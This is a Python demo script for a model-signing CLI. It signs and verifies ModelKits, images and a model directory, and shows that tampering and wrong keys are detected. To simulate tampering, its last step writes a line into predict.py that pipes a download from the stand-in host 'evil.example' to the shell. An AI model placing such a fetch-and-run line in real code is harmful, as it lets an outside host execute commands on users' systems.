"""The self-contained demo (`modelsign demo`): embedded defaults, no network, no cluster.

It runs the real CLI in-process against a local OCI layout and a model directory, and
checks every outcome it claims: the demo exits non-zero if any step behaves otherwise.
"""

from __future__ import annotations

import contextlib
import os
import shlex
import tempfile
from pathlib import Path

from signer.kitpack import pack_modelkit
from signer.oci.layout import LayoutRepository
from signer.samples import push_image, push_index

DEMO_PASSWORD = "modelsign-demo"


class DemoFailure(Exception):
    pass


def _run(argv: list[str], expect: int) -> None:
    from webhook.cli import main

    print(f"\n$ modelsign {shlex.join(argv)}", flush=True)
    code = main(argv)
    print(f"[exit {code}]", flush=True)
    if code != expect:
        raise DemoFailure(f"`modelsign {shlex.join(argv)}` exited {code}, expected {expect}")


def _step(title: str) -> None:
    print(f"\n=== {title} ===", flush=True)


def _write_model(root: Path, weights: bytes) -> None:
    (root / "model").mkdir(parents=True, exist_ok=True)
    (root / "code").mkdir(exist_ok=True)
    (root / "model" / "weights.safetensors").write_bytes(weights)
    (root / "code" / "predict.py").write_text("def predict(x):\n    return x\n")


def _kitfile(version: str) -> dict:
    return {
        "manifestVersion": "1.0.0",
        "package": {"name": "llm", "version": version, "authors": ["ML team"]},
        "model": {"name": "llm", "path": "./model", "framework": "safetensors"},
        "code": [{"path": "./code"}],
    }


def run_demo(workdir: Path | None) -> int:
    os.environ.setdefault("MODELSIGN_PASSWORD", DEMO_PASSWORD)
    with contextlib.ExitStack() as stack:
        base = workdir or Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="modelsign-demo-")))
        base.mkdir(parents=True, exist_ok=True)
        try:
            _demo(base.resolve())
        except DemoFailure as exc:
            print(f"\nDEMO FAILED: {exc}")
            return 1
    print("\nDemo finished: every step behaved as expected.")
    return 0


def _demo(base: Path) -> None:
    store = base / "store"
    os.chdir(base)
    _step("1. Key pairs (cosign's encrypted key format; password from MODELSIGN_PASSWORD)")
    _run(["keygen", "--output-prefix", "ml-team", "--force"], 0)
    _run(["keygen", "--output-prefix", "intruder", "--force"], 0)

    _step("2. Artifacts in a local OCI image layout: a KitOps ModelKit, an image, a multi-arch index")
    repository = LayoutRepository(store, create=True)
    context = base / "llm-src"
    _write_model(context, os.urandom(256 * 1024))
    kit = pack_modelkit(repository, context, _kitfile("1.0"), tag="llm-1.0")
    amd64 = push_image(repository, {"app/server.py": b"print('serving')\n"}, tag="server-1.0")
    arm64 = push_image(repository, {"app/server.py": b"print('serving')\n"}, tag=None, architecture="arm64")
    index = push_index(repository, {"amd64": amd64, "arm64": arm64}, tag="server-multiarch")
    print(f"ModelKit llm:1.0 -> {kit.digest}\nimage server:1.0 -> {amd64.digest}\nindex server-multiarch -> {index.digest}")

    _step("3. Sign the ModelKit (legacy .sig and sigstore bundle) and the index")
    _run(["sign", f"oci:{store}:llm-1.0", "--key", "ml-team.key", "--format", "both", "-a", "stage=prod"], 0)
    _run(["sign", f"oci:{store}:server-multiarch", "--key", "ml-team.key"], 0)

    _step("4. Verify: trusted key passes; another key, a missing annotation and an unsigned image fail")
    _run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub", "-a", "stage=prod"], 0)
    _run(["verify", f"oci:{store}@{kit.digest}", "--key", "ml-team.pub", "--output", "json"], 0)
    _run(["verify", f"oci:{store}:llm-1.0", "--key", "intruder.pub"], 1)
    _run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub", "-a", "stage=dev"], 1)
    _run(["verify", f"oci:{store}:server-multiarch", "--key", "ml-team.pub"], 0)
    _run(["verify", f"oci:{store}:server-1.0", "--key", "ml-team.pub"], 1)

    _step("5. Attack: re-point the signed tag at a different ModelKit")
    _write_model(context, os.urandom(256 * 1024))
    pack_modelkit(repository, context, _kitfile("1.0"), tag="llm-1.0")
    _run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub"], 1)
    _run(["verify", f"oci:{store}@{kit.digest}", "--key", "ml-team.pub"], 0)

    _step("6. A model directory, signed in the OpenSSF model signing format")
    model_dir = base / "my-model"
    _write_model(model_dir, os.urandom(512 * 1024))
    _run(["sign", "./my-model", "--key", "ml-team.key"], 0)
    _run(["verify", "./my-model", "--key", "ml-team.pub", "--signature", "./my-model.sig"], 0)
    (model_dir / "code" / "predict.py").write_text("import os\nos.system('curl evil.example | sh')\n")
    _run(["verify", "./my-model", "--key", "ml-team.pub"], 1)
